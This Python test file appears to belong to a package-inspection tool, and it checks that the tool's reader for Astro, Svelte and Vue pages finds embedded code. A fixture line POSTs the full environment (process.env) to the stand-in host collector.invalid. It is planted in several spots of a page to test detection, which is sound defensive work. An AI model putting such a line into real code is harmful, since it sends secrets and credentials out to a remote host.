"""Pages of Astro, Svelte and Vue."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, FileFacts, Language
from pratique.analysis.languages import readers
from pratique.core.tree import File
from tests.analysis.inspecting import npm, package_json

CSS = "\t@layer a.b {\n\t\tbutton[aria-expanded='true'] > .c:not(.d) { width: calc((1px - var(--e)) / 2); }\n\t}\n"
STYLE = f"<style is:global>\n{CSS * 6}</style>\n"
SCRIPT = "<script>\n\tclass A extends B {\n\t\tc = this.querySelector('d')!;\n\t}\n\tif (e) { f({}); }\n</script>\n"
FRONT = "---\nimport Icon from './icon.js';\nconst { a } = Astro.props as { a: string };\n---\n"
BODY = '<a class="b" href={a}><Icon /></a>\n'
SENT = "fetch('https://collector.invalid/', { method: 'POST', body: JSON.stringify(process.env) });\n"
PROSE = "This is a page, whatever its name says: it has (no code.\n" * 20


def read(text: str, name: str = "a.astro") -> FileFacts:
    return readers.read(File(name, text.encode()), Language.JAVASCRIPT)


@pytest.mark.parametrize(
    "page",
    [
        FRONT + BODY + STYLE,
        FRONT + BODY + SCRIPT + STYLE,
        f"{FRONT}<a-b>\n{SCRIPT}</a-b>\n{STYLE}",
        f"<script>\nexport let a: string;\n</script>\n{BODY}{STYLE}",
        f'<template>\n{BODY}</template>\n<script setup lang="ts">\nconst a = 1;\n</script>\n<style scoped>\n{CSS * 6}</style>\n',
        f"{FRONT}{BODY}\n{BODY}and text\n{BODY}{STYLE}",
        f"<!-- ours --><!-- <style> -->\n{BODY}{STYLE}",
    ],
    ids=["style", "script and style", "script in markup", "Svelte", "Vue", "elements", "comment"],
)
def test_a_style_sheet_is_no_code_of_a_page(page: str) -> None:
    assert read(page).problem is None


@pytest.mark.parametrize(
    "page",
    [
        FRONT + PROSE + STYLE,
        f"---\n{PROSE}---\n{BODY}{STYLE}",
        f"{FRONT}<script>\n{PROSE}</script>\n{STYLE}",
        FRONT + BODY + STYLE.replace("</style>", ""),
        f"{FRONT}<style a={{b[`</style>`] > c}}>\n{CSS * 6}</style>\n",
        f"const a = 1;\n{STYLE}",
        f"a\n{FRONT}{STYLE}",
    ],
    ids=["markup", "front matter", "script", "open style", "unsure tag", "code first", "text first"],
)
def test_what_else_does_not_parse_is_a_problem(page: str) -> None:
    assert "does not parse" in (read(page).problem or "")


@pytest.mark.parametrize(
    "page",
    [
        f"---\n{SENT}---\n{BODY}{STYLE}",
        f"{FRONT}{BODY}<script>\n{SENT}</script>\n{STYLE}",
        f"{FRONT}{STYLE}<style>\n{SENT}</style>\n",
        f"---\n// <style>\n{SENT}// </style>\n---\n{BODY}{STYLE}",
        f"{FRONT}<style define:vars={{{SENT.rstrip()}}}>\n{CSS * 6}</style>\n",
    ],
    ids=["front matter", "script", "style", "style in a comment", "attribute"],
)
def test_no_code_of_a_page_is_lost(page: str) -> None:
    facts = read(page)
    assert any(use.capability is Capability.NETWORK for use in facts.uses)
    assert any("collector.invalid" in address.value for address in facts.addresses)
    line = page[: page.index("collector")].count("\n") + 1
    assert line in {address.line for address in facts.addresses}


def test_facts_of_a_page_are_told_once() -> None:
    facts = read(f"{FRONT}{BODY}<script>\n{SENT}</script>\n{STYLE}")
    assert len([item.module for item in facts.imports]) == len({item.module for item in facts.imports})
    assert len(facts.addresses) == len(set(facts.addresses))


def test_a_package_of_pages_is_complete_though_it_may_load_them_otherwise() -> None:
    files = {
        "package.json": package_json(),
        "index.js": "require('node:module').register('./hook.mjs'); module.exports = require('./theme.astro');",
        "theme.astro": FRONT + BODY + SCRIPT + STYLE,
    }
    assert not [item for item in npm(files).inspection.unread if item.reached]


@given(
    st.lists(
        st.sampled_from(
            [FRONT, BODY, STYLE, SCRIPT, SENT, "<style>", "</style>", "---\n", "<!--", "-->", "{`"]
        )
    )
)
def test_any_page_gives_at_least_what_one_reading_gives(parts: list[str]) -> None:
    page = "".join(parts)
    facts, plain = read(page), read(f";{page}")
    assert {item.value for item in plain.addresses} <= {item.value for item in facts.addresses}


@pytest.mark.parametrize("piece", ["<style ", "<style>", "<style a='", "<style a={{", "<!--", "---\n"])
def test_a_hostile_page_takes_no_longer(piece: str) -> None:
    before = time.process_time()
    read(f"---\n---\n{piece * (200_000 // len(piece))}")
    assert time.process_time() - before < 10
